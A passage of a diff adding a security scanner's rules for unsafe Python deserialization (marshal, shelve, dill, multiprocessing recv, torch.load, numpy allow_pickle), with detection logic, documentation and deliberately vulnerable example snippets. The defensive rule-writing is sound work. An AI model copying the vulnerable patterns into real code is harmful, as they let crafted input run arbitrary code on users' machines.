+    detectionScope: '`load`/`load_all` on `ruamel.yaml.YAML(...)` instances whose constructor received `typ="unsafe"` or a list containing it, with the constructor found through assignments and `with ... as` bindings in the same file; a `typ` the analysis cannot evaluate is reported at medium confidence, one possibly hidden in `**kwargs` at low confidence. Legacy `ruamel.yaml.load`/`load_all` (also `ruamel.yaml.main`, `ruamel_yaml`) with the `Loader` checked as keyword or position 1. Not covered: instances configured after construction (`yaml.typ = ...`) or passed in from other modules. No automatic fix is offered: switching to `typ="safe"` changes the constructor that every use of the instance shares.',
+    references: [
+      { title: "ruamel.yaml documentation: basic usage and typ", url: "https://yaml.dev/doc/ruamel.yaml/basicuse/" },
+      { title: 'ruamel.yaml documentation (0.18 changes, typ="unsafe" deprecation)', url: "https://yaml.dev/doc/ruamel.yaml" },
+      { title: "ruamel.yaml on PyPI", url: "https://pypi.org/project/ruamel.yaml/" },
+      ...DESERIALIZATION_REFERENCES.slice(0, 3)
+    ],
+    faq: [
+      {
+        question: "Is `YAML()` without arguments safe?",
+        answer: "Yes. The default round-trip loader builds data only (with comments preserved); it is not reported."
+      },
+      {
+        question: "We need our own classes in the YAML files.",
+        answer: "Register them with `yaml.register_class(MyClass)` on a safe or round-trip instance; only those classes can then be constructed."
+      },
+      {
+        question: "Does this cover PyYAML's `yaml.load`?",
+        answer: "No: PyYAML is covered by PYTHON-LANG-SEC-041."
+      }
+    ]
+  }
+});
+
+// src/rules/python/PYTHON-LANG-SEC-044.ts
+function message3(m) {
+  const head = m.via === "reference" ? `${spelled(m)} is passed as a callable: every value it is applied to is unmarshalled` : `${spelled(m)} unmarshals its input`;
+  return `${head}. marshal is not secure against crafted data: it can crash the interpreter and builds code objects that callers may execute. Use a data-only format such as JSON for anything not produced by this process.`;
+}
+var PYTHON_LANG_SEC_044_default = defineRule({
+  id: "PYTHON-LANG-SEC-044",
+  name: "Marshal Deserialization of Untrusted Data",
+  language: "python",
+  severity: "medium",
+  confidence: "high",
+  precision: "high",
+  cwe: ["CWE-502"],
+  owasp: ["A08:2021"],
+  compliance: DESERIALIZATION_COMPLIANCE,
+  tags: ["security", "deserialization", "marshal", "cwe-502"],
+  bundles: ["lang", "deserialization"],
+  banditIds: ["B302"],
+  similar: ["PYTHON-LANG-SEC-040", "PYTHON-LANG-SEC-045"],
+  prefilter: ["marshal"],
+  sinks: [{ call: ["marshal.load", "marshal.loads"], references: true, message: message3 }],
+  docs: {
+    summary: "Detects `marshal.load` and `marshal.loads`, which are not safe on data that could come from an untrusted source.",
+    description: "`marshal` is CPython's internal format for `.pyc` files. Its documentation warns that it is not intended to be secure against erroneous or maliciously constructed data. Unlike pickle it cannot call functions while loading, but it reconstructs code objects, and crafted input has repeatedly crashed or corrupted the interpreter. This rule reports every `marshal.load` and `marshal.loads` call, also through aliases (`from marshal import loads as l`), rebinding, dynamic imports with constant names, and `marshal.loads` passed as a callback.",
+    securityImplications: "A marshalled blob from an attacker can carry a code object that the application later runs (`exec`, `types.FunctionType`), which is the classic way of smuggling bytecode into caches and plugin systems, and malformed input can crash the process (denial of service) or trigger memory-safety bugs in the loader. The format also changes between Python versions, so data exchanged across versions breaks silently.",
+    howToFix: "Use `marshal` only for data this process wrote and no one else can modify (for example a private cache under a directory the application owns). For data exchange use `json`, `msgpack` or Protocol Buffers. If bytes must travel, authenticate them with an HMAC (`hmac.compare_digest`) before loading.",
+    fixHint: "Use json/msgpack for data exchange; keep marshal for private, integrity-protected caches only.",
+    vulnerableExample: [
+      "import marshal",
+      "",
+      "def load_plugin(blob):",
+      "    code_obj = marshal.loads(blob)  # attacker bytes become bytecode",
+      "    exec(code_obj)"
+    ].join("\n"),
+    safeExample: [
+      "import json",
+      "",
+      "def load_settings(blob):",
+      "    return json.loads(blob)  # data only"
+    ].join("\n"),
+    detectionScope: 'Calls of `marshal.load` and `marshal.loads` resolved through imports, aliases, `from marshal import *`, rebinding, `importlib.import_module("marshal")`/`__import__("marshal")`, `getattr(marshal, "loads")`, and `marshal.loads` passed uncalled as a callback (medium confidence). `marshal.dump`/`dumps` are not findings. Every call is reported regardless of the data\'s origin, because the analysis does not prove where bytes come from; suppress a reviewed call on private data with `# pathfinder: ignore[PYTHON-LANG-SEC-044]`.',
+    references: [
+      { title: "Python documentation: marshal (security warning)", url: "https://docs.python.org/3/library/marshal.html" },
+      { title: "Bandit B302: marshal", url: "https://bandit.readthedocs.io/en/latest/blacklists/blacklist_calls.html#b302-marshal" },
+      { title: "Ruff S302: suspicious-marshal-usage", url: "https://docs.astral.sh/ruff/rules/suspicious-marshal-usage/" },
+      ...DESERIALIZATION_REFERENCES.slice(0, 3)
+    ],
+    faq: [
+      {
+        question: "marshal cannot call functions while loading. Why is it reported?",
+        answer: "It can still hand the caller attacker-built code objects and crash the interpreter on malformed input; the Python documentation explicitly says it is not secure against malicious data. The severity is medium rather than high for that reason."
+      },
+      {
+        question: "We use marshal for a cache we write ourselves.",
+        answer: "That is the intended use. Make sure no other user or service can write the cache location, then suppress the finding with a justification."
+      },
+      { question: "Is `marshal.dumps` reported?", answer: `No. Only loading is dangerous; ${code("dump")}/${code("dumps")} are never reported.` }
+    ]
+  }
+});
+
+// src/rules/python/PYTHON-LANG-SEC-045.ts
+function message4(m) {
+  if (m.via === "subclass") {
+    return `\`${m.subclass.name}\` subclasses ${m.target}: every value read from it is unpickled, which runs arbitrary code if someone else can write the underlying database. Use a data-only store (sqlite3 with JSON values, dbm with json.dumps).`;
+  }
+  return `${spelled(m)} opens a shelf whose values are unpickled on every read: whoever can write the database file runs code in this process. Keep shelves in private locations or store JSON in dbm/sqlite3 instead.`;
+}
+function check2(m) {
+  if (m.target !== "shelve.open") return {};
+  const flag = m.args.find("flag", 1);
+  const value = flag && m.model.constantString(flag, m.scope);
+  if (value !== "n") return {};
+  return {
+    severity: "low",
+    confidence: "low",
+    message: `${spelled(m)} with flag "n" creates a new empty shelf, so it reads back only what this process writes; values are still unpickled, so keep the file private.`
+  };
+}
+var PYTHON_LANG_SEC_045_default = defineRule({
+  id: "PYTHON-LANG-SEC-045",
+  name: "Shelve Deserialization of Untrusted Data",
+  language: "python",
+  severity: "medium",
+  confidence: "high",
+  precision: "high",
+  cwe: ["CWE-502"],
+  owasp: ["A08:2021"],
+  compliance: DESERIALIZATION_COMPLIANCE,
+  tags: ["security", "deserialization", "shelve", "pickle", "cwe-502"],
+  bundles: ["lang", "deserialization"],
+  banditIds: ["B301"],
+  similar: ["PYTHON-LANG-SEC-040", "PYTHON-LANG-SEC-044"],
+  prefilter: ["shelve", "Shelf"],
+  sinks: [
+    {
+      call: ["shelve.open", "shelve.Shelf", "shelve.DbfilenameShelf", "shelve.BsdDbShelf"],
+      subclasses: true,
+      check: check2,
+      message: message4
+    }
+  ],
+  docs: {
+    summary: "Detects `shelve.open` and the `shelve.Shelf` classes, whose values are stored with pickle and unpickled on every read.",
+    description: 'A shelf is a persistent dictionary: keys are strings, values are pickled into a `dbm` database. Reading `shelf[key]` calls `pickle.loads` on the stored bytes, so a shelf is exactly as trustworthy as its database file. This rule reports opening a shelf with `shelve.open`, `shelve.DbfilenameShelf`, `shelve.Shelf` or `shelve.BsdDbShelf`, and instantiating local subclasses of those classes. `shelve.open(path, "n")` always starts from an empty database and is reported at low severity.',
+    securityImplications: "If the database file can be replaced or modified by anyone else (a shared or world-writable directory, a file shipped with user content, a cache volume mounted into several services, a file downloaded or extracted from an archive), the first read of a poisoned key runs arbitrary code with the privileges of the reading process.",
+    howToFix: "Keep shelves only in directories the application alone can write, and never open a shelf received from someone else. For data that crosses a trust boundary, store JSON: `dbm.open(path)` with `json.dumps`/`json.loads` values, or `sqlite3` with JSON columns.",
+    fixHint: "Store JSON values in dbm or sqlite3 instead of shelve for data others can write.",
+    vulnerableExample: [
+      "import shelve",
+      "",
+      "def read_profile(upload_path, user):",
+      "    with shelve.open(upload_path) as db:  # an uploaded database: reading unpickles it",
+      "        return db[user]"
+    ].join("\n"),
+    safeExample: [
+      "import dbm",
+      "import json",
+      "",
+      "def read_profile(path, user):",
+      "    with dbm.open(path) as db:",
+      "        return json.loads(db[user])  # data only"
+    ].join("\n"),
+    detectionScope: 'Calls of `shelve.open`, `shelve.Shelf`, `shelve.DbfilenameShelf` and `shelve.BsdDbShelf` resolved through imports, aliases, rebinding and constant dynamic imports, and instantiation of local subclasses of the shelf classes. The `flag` argument (keyword or position 1) lowers the severity when it is the constant `"n"`. Reads through the shelf object are not reported separately: the finding sits on the call that opens it. `dbm` itself stores bytes and is not reported.',
+    references: [
+      { title: "Python documentation: shelve (security warning)", url: "https://docs.python.org/3/library/shelve.html" },
+      { title: "Bandit B301: pickle (includes shelve)", url: "https://bandit.readthedocs.io/en/latest/blacklists/blacklist_calls.html#b301-pickle" },
+      { title: "Ruff S301: suspicious-pickle-usage", url: "https://docs.astral.sh/ruff/rules/suspicious-pickle-usage/" },
+      ...DESERIALIZATION_REFERENCES.slice(0, 3)
+    ],
+    faq: [
+      {
+        question: "The shelf lives in our application's own directory. Is this a false positive?",
+        answer: "If no other user, service or upload can write that file, the risk is low: suppress the finding with that justification. The rule cannot see file permissions, so it reports every shelf it opens."
+      },
+      {
+        question: "Why is the finding on `shelve.open` and not on `db[key]`?",
+        answer: "Every read of the shelf unpickles; reporting each subscript would flood the results. The call that opens the shelf is the one decision to review."
+      },
+      {
+        question: 'Why is `shelve.open(path, "n")` still reported?',
+        answer: "It starts from an empty database, so it reads back only what the process itself writes unless another process writes the same file concurrently. It is reported at low severity so that the use of pickle stays visible."
+      }
+    ]
+  }
+});
+
+// src/rules/python/PYTHON-LANG-SEC-046.ts
+var message5 = unpicklingMessage(
+  "dill, a pickle extension that also rebuilds functions, lambdas and whole sessions",
+  "Never load dill data that could come from an untrusted source; use a data-only format such as JSON."
+);
+var PYTHON_LANG_SEC_046_default = defineRule({
+  id: "PYTHON-LANG-SEC-046",
+  name: "Dill Deserialization of Untrusted Data",
+  language: "python",
+  severity: "high",
+  confidence: "high",
+  precision: "high",
+  cwe: ["CWE-502"],
+  owasp: ["A08:2021"],
+  compliance: DESERIALIZATION_COMPLIANCE,
+  tags: ["security", "deserialization", "dill", "pickle", "rce", "cwe-502"],
+  bundles: ["lang", "deserialization"],
+  banditIds: ["B301"],
+  similar: ["PYTHON-LANG-SEC-040", "PYTHON-ML-SEC-005"],
+  prefilter: ["dill"],
+  sinks: [
+    { call: ["dill.load", "dill.loads", "dill.Unpickler"], subclasses: true, references: true, message: message5 },
+    { call: ["dill.load_session", "dill.load_module", "dill.load_module_asdict", "dill.temp.load", "dill.temp.loadIO"], message: message5 }
+  ],
+  docs: {
+    summary: "Detects dill deserialization (`dill.loads`, `dill.load`, `dill.Unpickler`, `dill.load_session`/`load_module`), which executes arbitrary code from its input.",
+    description: "`dill` extends pickle so that it can serialize functions, lambdas, closures, classes and entire interpreter sessions. Loading dill data is loading pickle, with even more machinery to rebuild code: any dill payload can import modules and call functions. This rule reports `dill.loads`, `dill.load`, `dill.Unpickler` (and local subclasses), `dill.load_session`, `dill.load_module`, `dill.load_module_asdict`, `dill.temp.load` and `dill.temp.loadIO`, also through `dill.dill`/`dill._dill`, aliases, rebinding and dynamic imports, and `dill.loads` passed as a callback.",
+    securityImplications: "Anyone who can influence the bytes (a cached result, a message on a queue, a session file, an uploaded model or notebook state) runs code with the privileges of the process. dill is common in data science and multiprocessing stacks (`pathos`, `multiprocess`), where serialized closures move between machines: a compromised worker or broker then reaches every consumer.",
+    howToFix: "Do not load dill data across a trust boundary. Exchange data with `json`, `msgpack` or `safetensors`, and send function names or identifiers instead of code. If dill must stay for data the process produced itself, sign it with an HMAC and verify it (`hmac.compare_digest`) before loading.",
+    fixHint: "Exchange data (JSON, msgpack, safetensors), not serialized code; verify an HMAC before loading your own dill data.",
+    vulnerableExample: [
+      "import dill",
+      "",
+      "def run_task(message):",
+      "    task = dill.loads(message.body)  # the message decides what code runs",
+      "    return task()"
+    ].join("\n"),
+    safeExample: [
+      "import json",
+      "",
+      'TASKS = {"resize": resize_image, "thumbnail": make_thumbnail}',
+      "",
+      "def run_task(message):",
+      "    spec = json.loads(message.body)",
+      '    return TASKS[spec["name"]](**spec["args"])  # only known functions'
+    ].join("\n"),
+    detectionScope: "Calls of `dill.load`, `dill.loads`, `dill.Unpickler`, `dill.load_session`, `dill.load_module`, `dill.load_module_asdict`, `dill.temp.load`, `dill.temp.loadIO`, resolved through imports (including `dill.dill`/`dill._dill`), aliases, star imports, rebinding and constant dynamic imports; instantiation of local subclasses of `dill.Unpickler`; and `dill.load`/`dill.loads` passed uncalled as a callback (medium confidence). `dill.dump`, `dill.dumps` and `dill.dump_session` are not findings. `torch.load(..., pickle_module=dill)` is covered by PYTHON-ML-SEC-001.",
+    references: [
+      { title: "dill documentation", url: "https://dill.readthedocs.io/en/latest/" },
+      { title: "dill on PyPI (security note: dill is not secure against untrusted data)", url: "https://pypi.org/project/dill/" },
+      { title: "Ruff S301: suspicious-pickle-usage (pickle and dill)", url: "https://docs.astral.sh/ruff/rules/suspicious-pickle-usage/" },
+      ...DESERIALIZATION_REFERENCES
+    ],
+    faq: [
+      {
+        question: "Is dill safer than pickle because it is a different library?",
+        answer: "No. dill produces and consumes pickle streams and adds support for code objects; everything that makes pickle dangerous applies."
+      },
+      {
+        question: "We use dill only between our own worker processes.",
+        answer: "Then the risk is whoever can reach the transport (queue, socket, shared storage). Authenticate payloads with an HMAC or keep the channel private, and suppress the finding with a justification."
+      },
+      { question: "Is `dill.dumps` reported?", answer: "No. Serializing runs no attacker-controlled code; only loading is reported." }
+    ]
+  }
+});
+
+// src/rules/python/PYTHON-LANG-SEC-073.ts
+var CLIENT_RECV = "multiprocessing.connection.Client().recv";
+var LISTENER_RECV = "multiprocessing.connection.Listener().accept().recv";
+var LISTENER = "multiprocessing.connection.Listener()";
+var AUTHKEY_POSITION = { client: 2, listener: 3 };
+function endpoint(m) {
+  if (!m.receiver) return void 0;
+  if (m.target === CLIENT_RECV) return { args: m.receiver.args, kind: "client" };
+  const callee = childByField(m.receiver.call, "function");
+  const object = callee?.type === "attribute" ? childByField(callee, "object") : void 0;
+  if (!object) return void 0;
+  const built = m.model.resolve(object, m.receiver.scope).find((r) => r.name === LISTENER && r.constructedBy);
+  return built?.constructedBy ? { args: new CallArguments(built.constructedBy.call, m.model.tree.source), kind: "listener" } : void 0;
+}
+function check3(m) {
+  const end = endpoint(m);
+  const peer = m.target === CLIENT_RECV ? "the server it connects to" : "any client that connects";
+  if (!end) return {};
+  const authkey = end.args.find("authkey", AUTHKEY_POSITION[end.kind]);
+  if (authkey && authkey.type !== "none") {
+    return {
+      severity: "medium",
+      message: `${spelled(m)} unpickles what ${peer} sends; the connection is authenticated with an authkey, so only key holders can run code here. Keep the key secret, or exchange bytes with \`recv_bytes\` and decode them as JSON.`
+    };
+  }
+  if (end.args.mayBeHidden("authkey", AUTHKEY_POSITION[end.kind])) {
+    return { confidence: "medium", message: message6(m) };
+  }
+  return {};
+}
+function message6(m) {
+  const peer = m.target === CLIENT_RECV ? "the server it connects to" : "any client that connects";
+  return `${spelled(m)} unpickles whatever ${peer} sends, without an authkey: anyone who can reach the address runs code in this process. Use \`recv_bytes\` with a data-only format (JSON), and pass an \`authkey\` to Listener/Client.`;
+}
+var PYTHON_LANG_SEC_073_default = defineRule({
+  id: "PYTHON-LANG-SEC-073",
+  name: "Multiprocessing Connection recv Unpickles Network Data",
+  language: "python",
+  severity: "high",
+  confidence: "high",
+  precision: "high",
+  cwe: ["CWE-502"],
+  owasp: ["A08:2021"],
+  compliance: DESERIALIZATION_COMPLIANCE,
+  tags: ["security", "deserialization", "multiprocessing", "network", "pickle", "rce", "cwe-502"],
+  bundles: ["lang", "deserialization"],
+  banditIds: [],
+  similar: ["PYTHON-LANG-SEC-040", "PYTHON-ML-SEC-008"],
+  prefilter: ["multiprocessing"],
+  sinks: [{ call: [CLIENT_RECV, LISTENER_RECV], check: check3, message: message6 }],
+  docs: {
+    summary: "Detects `Connection.recv()` on `multiprocessing.connection` sockets (from `Client(...)` or `Listener(...).accept()`), which unpickles whatever the peer sends.",
+    description: "`multiprocessing.connection.Listener` and `Client` open TCP or Unix sockets (or Windows named pipes). Their `Connection.send`/`recv` pair pickles objects: `recv()` is `pickle.loads(self.recv_bytes())`. Without an `authkey`, no handshake happens, so any process that can reach the address can send a pickle that runs code in the receiver. This rule reports `recv()` on connections obtained from `Client(...)` or from `Listener(...).accept()`, followed through variables and `with` statements; it is high severity without an authkey and medium with one (the HMAC handshake limits the peer to key holders, but the data is still unpickled). `recv_bytes()` is not reported.",
+    securityImplications: "A listener bound to a network interface without an authkey is an unauthenticated remote-code-execution service. Even on localhost or a Unix socket, every local user or container sharing the network namespace can connect. A client that calls `recv()` trusts the server completely: connecting to a spoofed or compromised address hands it code execution.",
+    howToFix: "Exchange bytes with `send_bytes`/`recv_bytes` and encode them as JSON or msgpack. If objects must be pickled between cooperating processes, always pass a strong random `authkey` to both `Listener` and `Client` (the documentation's own recommendation), bind to a private address, and keep the key out of logs and repositories.",
+    fixHint: "Use recv_bytes() with JSON; if pickling between trusted processes, always set a secret authkey.",
+    vulnerableExample: [
+      "from multiprocessing.connection import Listener",
+      "",
+      'with Listener(("0.0.0.0", 6000)) as listener:',
+      "    with listener.accept() as conn:",
+      "        job = conn.recv()  # any client's pickle runs here"
+    ].join("\n"),
+    safeExample: [
+      "import json",
+      "from multiprocessing.connection import Listener",
+      "",
+      'with Listener(("127.0.0.1", 6000), authkey=SECRET) as listener:',
+      "    with listener.accept() as conn:",
+      "        job = json.loads(conn.recv_bytes())  # data only, authenticated peer"
+    ].join("\n"),
+    detectionScope: "`recv()` calls whose receiver resolves to `multiprocessing.connection.Client(...)` or to `multiprocessing.connection.Listener(...).accept()`, through imports, aliases, assignments and `with ... as` bindings in the same file. The `authkey` argument (keyword, or position 2 for Client / 3 for Listener) lowers the severity when present and not None; one possibly hidden in `**kwargs` lowers the confidence. Not covered: connections passed in from other modules or created with `multiprocessing.Pipe()` between a parent and its own children, and `multiprocessing.dummy`, which passes objects through queues without pickling.",
+    references: [
+      { title: "Python documentation: multiprocessing.connection (Listeners and Clients, authentication keys)", url: "https://docs.python.org/3/library/multiprocessing.html#module-multiprocessing.connection" },
+      { title: "Python documentation: Connection.recv security warning", url: "https://docs.python.org/3/library/multiprocessing.html#multiprocessing.connection.Connection.recv" },
+      ...DESERIALIZATION_REFERENCES
+    ],
+    faq: [
+      {
+        question: "We set an authkey. Why is it still reported?",
+        answer: "With an authkey only peers that know the key can send data, which is why the severity drops to medium. The data is still unpickled, so anyone holding the key (or a leaked copy) can run code. Suppress with a justification if the key is managed as a secret."
+      },
+      {
+        question: "Is `recv_bytes` reported?",
+        answer: "No. It returns raw bytes and never unpickles."
+      },
+      {
+        question: "What about `multiprocessing.Pipe()` and Queues?",
+        answer: "They connect a process to the children it started, which already run its own code; they are not reported. Managers and listeners that accept connections from outside are where untrusted peers appear."
+      }
+    ]
+  }
+});
+
+// src/rules/python/PYTHON-ML-SEC-001.ts
+var HUB_LOADERS = /* @__PURE__ */ new Set(["torch.hub.load_state_dict_from_url"]);
+var ADVICE3 = "Pass `weights_only=True` (add trusted classes with `torch.serialization.add_safe_globals`) or store weights as safetensors.";
+function check4(m) {
+  const hub = HUB_LOADERS.has(m.target);
+  const given = m.args.find("weights_only", hub ? 6 : void 0);
+  const weightsOnly = given?.type === "none" ? void 0 : given;
+  const source = m.model.tree.source;
+  if (weightsOnly) {
+    const truth = literalTruth(weightsOnly, source);
+    if (truth === true) return null;
+    if (truth === false) {
+      return {
+        message: `${spelled(m)} with \`weights_only=False\` unpickles the file: a malicious checkpoint runs arbitrary code when loaded. ${ADVICE3}`
+      };
+    }
+    return {
+      severity: "medium",
+      confidence: "medium",
+      message: `${spelled(m)} takes \`weights_only\` from a value the analysis cannot evaluate; unless it is True, the file is unpickled and can run arbitrary code. ${ADVICE3}`
+    };
+  }
+  if (!given && m.args.mayBeHidden("weights_only", hub ? 6 : void 0)) {
+    return {
+      severity: "medium",
+      confidence: "medium",
+      message: `${spelled(m)} may receive \`weights_only\` through \`*args\`/\`**kwargs\`; unless it is True, the file is unpickled and can run arbitrary code. ${ADVICE3}`
+    };
+  }
+  const addWeightsOnly = fix("Pass weights_only=True", [appendKeywordArgument(m, "weights_only=True")]);
+  if (hub) {
+    return {
+      message: `${spelled(m)} defaults to \`weights_only=False\`: the downloaded file is unpickled, so whoever controls the URL or the cache runs code. ${ADVICE3}`,
+      ...addWeightsOnly ? { fix: addWeightsOnly } : {}
+    };
+  }
+  if (m.args.find("pickle_module", 2)) {
+    return {
+      message: `${spelled(m)} with a custom \`pickle_module\` and no \`weights_only\` unpickles the file on every torch version: a malicious checkpoint runs arbitrary code. ${ADVICE3}`
+    };
+  }
+  return {
+    severity: "medium",
+    message: `${spelled(m)} without \`weights_only\` unpickles the file on torch < 2.6 (and wherever TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD is set): a malicious checkpoint runs arbitrary code. ${ADVICE3}`,
+    ...addWeightsOnly ? { fix: addWeightsOnly } : {}
+  };
+}
+var PYTHON_ML_SEC_001_default = defineRule({
+  id: "PYTHON-ML-SEC-001",
+  name: "PyTorch Load Without weights_only",
+  language: "python",
+  severity: "high",
+  confidence: "high",
+  precision: "high",
+  cwe: ["CWE-502"],
+  owasp: ["A08:2021"],
+  compliance: DESERIALIZATION_COMPLIANCE,
+  tags: ["security", "deserialization", "pytorch", "torch", "ml", "model", "pickle", "rce", "cwe-502"],
+  bundles: ["ml", "deserialization"],
+  banditIds: ["B614"],
+  similar: ["PYTHON-LANG-SEC-040", "PYTHON-ML-SEC-002", "PYTHON-ML-SEC-004", "PYTHON-ML-SEC-006"],
+  prefilter: ["torch", "model_zoo", "load_state_dict_from_url"],
+  sinks: [{ call: ["torch.load", "torch.hub.load_state_dict_from_url"], check: check4, message: (m) => `${spelled(m)} unpickles the file. ${ADVICE3}` }],
+  docs: {
+    summary: "Detects `torch.load` (and `torch.hub.load_state_dict_from_url`) calls that do not pass `weights_only=True`, which unpickle the checkpoint and can run arbitrary code.",
+    description: "PyTorch checkpoints (`.pt`, `.pth`, `.bin`, `.ckpt`) are zip archives around a pickle. `torch.load` with `weights_only=False` runs the full unpickler, so a checkpoint can execute code the moment it is loaded. `weights_only=True` switches to a restricted unpickler that rebuilds only tensors, primitive containers and explicitly allowed classes. Since torch 2.6 `weights_only=True` is the default, but older versions, the `TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD` environment variable and a custom `pickle_module` all fall back to full unpickling. `torch.hub.load_state_dict_from_url` (alias `torch.utils.model_zoo.load_url`) still defaults to `weights_only=False` and downloads the file first. This rule reports: `weights_only=False` (high), a missing argument on `torch.load` (medium; high with a custom `pickle_module`), a missing argument on `load_state_dict_from_url` (high), and a value it cannot evaluate or one hidden in `**kwargs` (medium severity, medium confidence).",
+    securityImplications: "Model files are downloaded from hubs, shared in issues, attached to datasets and swapped in caches. A poisoned checkpoint carries a `__reduce__` payload that runs when the file is loaded, before any weights are used: it can steal cloud credentials and API tokens from the training machine, plant a backdoor, or tamper with other models. Public hubs have hosted such files, and tools that load checkpoints automatically (evaluation services, conversion bots, notebooks) have been compromised this way.",
+    howToFix: "Load with `torch.load(path, weights_only=True)`. If the checkpoint contains your own classes, allow exactly those with `torch.serialization.add_safe_globals([MyConfig])` or the `torch.serialization.safe_globals` context manager instead of disabling the restriction. Better still, store weights with `safetensors` (`safetensors.torch.save_file` / `load_file`), which cannot carry code. Never load a checkpoint with `weights_only=False` unless you produced it yourself and its integrity is verified (a pinned hash).",
+    fixHint: "Pass weights_only=True to torch.load (allow extra classes with torch.serialization.add_safe_globals), or use safetensors.",
+    vulnerableExample: [
+      "import torch",
+      "",
+      "def load_checkpoint(path):",
+      '    return torch.load(path, map_location="cpu", weights_only=False)  # full unpickling'
+    ].join("\n"),
+    safeExample: [
+      "import torch",
+      "",
+      "def load_checkpoint(path):",
+      '    return torch.load(path, map_location="cpu", weights_only=True)  # tensors and plain containers only'
+    ].join("\n"),
+    detectionScope: "Calls of `torch.load`, `torch.serialization.load`, `torch.hub.load_state_dict_from_url` and `torch.utils.model_zoo.load_url`, resolved through imports, aliases, rebinding and constant dynamic imports. The `weights_only` keyword is evaluated when it is a literal (`None` counts as missing: it selects the version default); `pickle_module` is read as keyword or position 2. A call whose arguments come through `*args`/`**kwargs` is reported at medium confidence: the option may be set there, but the analysis cannot see it. Fix: a missing `weights_only` is added as `weights_only=True`; an explicit `weights_only=False` gets no automatic fix because the checkpoint may need classes that must first be allowed. Checkpoint files themselves are scanned by the artifact rules.",
+    references: [
+      { title: "PyTorch documentation: torch.load (weights_only and security warning)", url: "https://pytorch.org/docs/stable/generated/torch.load.html" },
+      { title: "PyTorch documentation: weights_only unpickler and add_safe_globals", url: "https://pytorch.org/docs/stable/notes/serialization.html#weights-only" },
+      { title: "PyTorch documentation: torch.hub.load_state_dict_from_url", url: "https://pytorch.org/docs/stable/hub.html#torch.hub.load_state_dict_from_url" },
+      { title: "Bandit B614: pytorch_load", url: "https://bandit.readthedocs.io/en/latest/plugins/b614_pytorch_load.html" },
+      { title: "safetensors documentation", url: "https://huggingface.co/docs/safetensors/index" },
+      ...DESERIALIZATION_REFERENCES.slice(0, 3)
+    ],
+    faq: [
+      {
+        question: "We run torch 2.6 or later, where weights_only defaults to True. Why is a plain torch.load reported?",
+        answer: "The call is safe only where it runs on torch >= 2.6 and `TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD` is not set. Stating `weights_only=True` makes the code safe on every version and documents the intent; that is why the finding is medium severity and comes with an automatic fix."
+      },
+      {
+        question: "Our checkpoint stores an optimizer, a config object or numpy values and fails with weights_only=True.",
+        answer: "Allow the specific classes with `torch.serialization.add_safe_globals` (the error message names them) instead of disabling the restriction, or save only `state_dict()`s and plain values."
+      },
+      {
+        question: "Why is `torch.load(f, **options)` reported?",
+        answer: "`weights_only` may or may not be inside `options`; the analysis cannot tell, so it reports at medium confidence. Pass `weights_only=True` explicitly to make the call self-evidently safe."
+      },
+      {
+        question: "Is `torch.save` reported?",
+        answer: "No. Saving runs no attacker-controlled code."
+      }
+    ]
+  }
+});
+
+// src/rules/python/PYTHON-ML-SEC-002.ts
+var ADVICE4 = "Keep the default `allow_pickle=False` and store object data in a data-only format (JSON, Parquet, safetensors).";
+var ALLOW_PICKLE_POSITION = { "numpy.load": 2, "numpy.lib.format.read_array": 1 };
+function check5(m) {
+  const position = ALLOW_PICKLE_POSITION[m.target];
+  const allowPickle = m.args.find("allow_pickle", position);
+  if (!allowPickle) {
+    if (!m.args.mayBeHidden("allow_pickle", position)) return null;
+    return {
+      severity: "medium",
+      confidence: "low",
+      message: `${spelled(m)} may receive \`allow_pickle\` through \`*args\`/\`**kwargs\`; if it is True, object arrays in the file are unpickled and can run arbitrary code. ${ADVICE4}`
+    };
+  }
+  const truth = literalTruth(allowPickle, m.model.tree.source);
+  if (truth === false) return null;
+  if (truth === true) {
+    const toFalse = allowPickle.type === "true" ? fix("Set allow_pickle=False", [replaceNode(allowPickle, "False")]) : void 0;
+    return {
+      message: `${spelled(m)} with \`allow_pickle=True\` unpickles object arrays stored in the file: a crafted .npy/.npz runs arbitrary code when loaded. ${ADVICE4}`,
+      ...toFalse ? { fix: toFalse } : {}
+    };
+  }
+  return {
+    confidence: "medium",
+    message: `${spelled(m)} sets \`allow_pickle\` from a value that is not literally False; when it is true, object arrays in the file are unpickled and can run arbitrary code. ${ADVICE4}`
+  };
+}
+var legacyMessage = (m) => `${spelled(m)} is a legacy NumPy alias of \`pickle.loads\`/\`pickle.load\`: it runs whatever code the bytes describe. Use \`numpy.load\` on .npy files with \`allow_pickle=False\`.`;
+var PYTHON_ML_SEC_002_default = defineRule({
+  id: "PYTHON-ML-SEC-002",
+  name: "NumPy Load With allow_pickle",
+  language: "python",
+  severity: "high",
+  confidence: "high",
+  precision: "high",
+  cwe: ["CWE-502"],
+  owasp: ["A08:2021"],
+  compliance: DESERIALIZATION_COMPLIANCE,
+  tags: ["security", "deserialization", "numpy", "ml", "pickle", "rce", "cwe-502"],
+  bundles: ["ml", "deserialization"],
+  banditIds: [],
+  similar: ["PYTHON-ML-SEC-001", "PYTHON-LANG-SEC-040", "PYTHON-ML-SEC-009"],
+  prefilter: ["numpy", "read_array"],
+  sinks: [
+    { call: Object.keys(ALLOW_PICKLE_POSITION), check: check5, message: (m) => `${spelled(m)} may unpickle object arrays. ${ADVICE4}` },
+    { call: ["numpy.loads", "numpy.ma.loads", "numpy.ma.load", "numpy.core.multiarray.loads"], references: true, message: legacyMessage }
+  ],
+  docs: {
+    summary: "Detects `numpy.load` (and `numpy.lib.format.read_array`) with `allow_pickle` enabled, and the legacy pickle aliases `numpy.loads`/`numpy.ma.loads`, which run arbitrary code from the file.",
+    description: "`.npy` and `.npz` files hold raw numeric arrays, but arrays of dtype `object` are stored as a pickle. With `allow_pickle=True`, `numpy.load` unpickles them, and a crafted file runs code as soon as it is loaded. NumPy changed the default to `allow_pickle=False` in 1.16.3 because of CVE-2019-6446; code that turns it back on, often just to silence a `ValueError`, reopens the hole. This rule reports `numpy.load` / `numpy.lib.format.read_array` when `allow_pickle` (keyword, or position 2 / 1) is `True` or any value not literally false, and the legacy `numpy.loads`, `numpy.ma.loads` and `numpy.ma.load`, which were plain pickle aliases.",
+    securityImplications: "Datasets, embeddings and feature caches are routinely exchanged as `.npy`/`.npz` files downloaded from the internet or shared between teams. With pickling allowed, any of them can execute code on the machine that loads it: exfiltrate credentials from a training cluster, alter other data, or persist in the environment.",
